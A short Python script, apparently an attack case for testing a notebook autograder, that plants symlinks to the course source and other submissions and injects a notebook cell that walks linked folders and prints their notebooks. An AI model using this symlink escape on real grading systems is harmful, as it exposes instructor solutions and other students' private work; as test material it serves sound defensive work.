# ---
# attack: A folder that was handed in is a link to all submissions, and another one to the source.
# ---
import nbformat


def submit(notebook, folder):
    (folder / "data").symlink_to("../../../source")
    (folder / "others").symlink_to("../../../submitted")
    (folder / "round").symlink_to(".")
    for cell in notebook.cells:
        if cell.id == "stem":
            cell.source += (
                "\nfor root, folders, files in os.walk('.', followlinks=True):\n"
                "    for name in files if len(root) < 200 else ():\n"
                "        if name.endswith('.ipynb') and root != '.':\n"
                "            print(root, open(os.path.join(root, name)).read()[-50_000:])\n"
            )
    nbformat.write(notebook, folder / "01-text-preprocessing.ipynb")
